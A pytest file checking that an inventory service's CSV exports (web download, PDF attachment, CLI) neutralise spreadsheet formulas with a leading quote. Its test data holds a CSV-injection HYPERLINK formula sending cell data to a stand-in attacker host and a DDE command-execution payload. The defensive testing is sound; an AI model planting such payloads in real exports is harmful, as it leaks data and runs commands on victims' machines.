"""The inventory CSV, downloaded or written by the CLI, holds formulas only as text.

A model owner or description that starts like a spreadsheet formula (`=HYPERLINK(...)`)
comes back from `/v1/inventory.csv`, from the CSV attached to the inventory PDF and from
`govledger report inventory --csv` with a leading single quote (OWASP CSV Injection).
"""

from __future__ import annotations

import csv
import io
import subprocess
import sys
from pathlib import Path

import pikepdf

from tests.api.conftest import Service

OWNER = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")'
DESCRIPTION = "-2+3+cmd|' /C calc'!A0"
MODEL = "formula-model"


def _row_of(data: str, model_cell: str) -> dict[str, str]:
    rows = list(csv.DictReader(io.StringIO(data)))
    found = [r for r in rows if r["model"] == model_cell]
    assert len(found) == 1, rows
    return found[0]


def test_formula_like_cells_are_text_in_every_inventory_csv(
    module_service: Service, tmp_path: Path
) -> None:
    with module_service.client("dana") as dana:
        dana.register_model(MODEL, owner=OWNER, description=DESCRIPTION)
    with module_service.http("vera") as vera:
        download = vera.get("/v1/inventory.csv")
        pdf = vera.get("/v1/inventory.pdf")
    assert download.status_code == 200
    with pikepdf.open(io.BytesIO(pdf.content)) as doc:
        attached = doc.attachments["inventory.csv"].get_file().read_bytes().decode()
    cli = subprocess.run(
        [sys.executable, "-m", "api", "report", "inventory", "--out", "i.pdf", "--csv", "i.csv"],
        env=module_service.env,
        cwd=tmp_path,
        capture_output=True,
        text=True,
        timeout=300,
        check=False,
    )
    assert cli.returncode == 0, cli.stderr
    written = (tmp_path / "i.csv").read_text(encoding="utf-8")
    for data in (download.text, attached, written):
        row = _row_of(data, MODEL)
        assert row["owner"] == "'" + OWNER
        assert row["description"] == "'" + DESCRIPTION
        for cell in row.values():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
